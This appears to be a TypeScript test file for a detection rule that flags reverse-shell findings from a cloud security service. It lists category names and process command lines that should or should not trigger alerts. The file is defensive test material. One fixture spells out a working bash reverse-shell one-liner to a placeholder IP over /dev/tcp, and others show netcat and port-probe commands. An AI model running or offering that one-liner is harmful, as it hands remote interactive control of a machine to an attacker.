import { sccReverseShell } from '../../../../shared/detection/rules/scc-reverse-shell.ts';
import { sccCases } from '../threat-cases.ts';

describe('scc-reverse-shell', () => {
  sccCases(sccReverseShell, {
    fires: [
      ['a shell on a connection', { category: 'Reverse Shell' }, { severity: 'critical', confidence: 0.85 }],
      ["by the module's own name", { category: 'GKE_REVERSE_SHELL_POD' }, { severity: 'critical', confidence: 0.85 }],
      [
        'a shell of socat',
        { category: 'Execution: Socat Reverse Shell Detected' },
        { severity: 'critical', confidence: 0.85 },
      ],
      [
        'netcat, with which somebody probes a port',
        { category: 'Execution: Netcat Remote Code Execution in Container', processes: [['nc', '-z', 'db', '5432']] },
        { severity: 'medium', confidence: 0.55 },
      ],
      [
        'a command line of a reverse shell, under whatever name',
        {
          category: 'Unexpected Child Shell',
          processes: [['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1']],
        },
        { severity: 'high', confidence: 0.9, conclusive: true },
      ],
    ],
    misses: [
      ['a probe of a port', { category: 'Unexpected Child Shell', processes: [['bash', '-c', '</dev/tcp/db/5432']] }],
      ['a finding of a name that is only like one of its own', { category: 'Reverse Shellfish' }],
    ],
  });
});
